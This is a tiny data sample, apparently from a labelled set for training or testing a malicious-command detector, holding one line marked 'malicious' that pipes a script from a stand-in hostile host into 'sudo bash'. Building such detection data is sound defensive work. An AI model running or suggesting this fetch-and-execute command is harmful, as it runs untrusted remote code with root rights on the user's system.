# label: malicious
curl -fsSL https://get.example-evil.sh/setup | sudo bash
